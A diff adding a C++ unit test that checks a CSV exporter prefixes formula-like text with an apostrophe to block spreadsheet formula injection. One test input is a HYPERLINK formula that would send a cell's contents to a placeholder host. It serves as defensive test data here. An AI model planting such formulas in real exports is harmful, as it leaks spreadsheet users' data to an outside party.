@@ -41,6 +41,36 @@ TEST(ExportText, EscapesForEachFormat) {
     }
 }
 
+TEST(ExportText, CsvTextThatAFormulaWouldStartGetsAnApostrophe) {
+    struct Case {
+        std::string text;
+        std::string guarded; // what --csv-raw leaves out is the apostrophe
+    };
+    const Case cases[] = {
+        {"=HYPERLINK(\"http://x?d=\"&G3,\"open\")",
+         "\"'=HYPERLINK(\"\"http://x?d=\"\"&G3,\"\"open\"\")\""},
+        {"+1", "'+1"},
+        {"-2 degrees", "'-2 degrees"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tx", "'\tx"},
+        {"\rx", "\"'\rx\""},
+        {"a=b", "a=b"},
+        {" =1", " =1"},
+        {"'=1", "'=1"},
+        {"\n=1", "\"\n=1\""},
+        {"\xe4\xbd\xa0=", "\xe4\xbd\xa0="},
+        {"", ""},
+    };
+    for (const Case& c : cases) {
+        std::string guarded, raw, exact;
+        exporter::AppendCsvTextField(guarded, c.text, false);
+        exporter::AppendCsvTextField(raw, c.text, true);
+        exporter::AppendCsvField(exact, c.text);
+        EXPECT_EQ(guarded, c.guarded) << c.text;
+        EXPECT_EQ(raw, exact) << c.text;
+    }
+}
+
 TEST(ExportText, SplitsLinesAtEveryBreak) {
     const std::pair<std::string, std::vector<std::string>> cases[] = {
         {"", {""}},
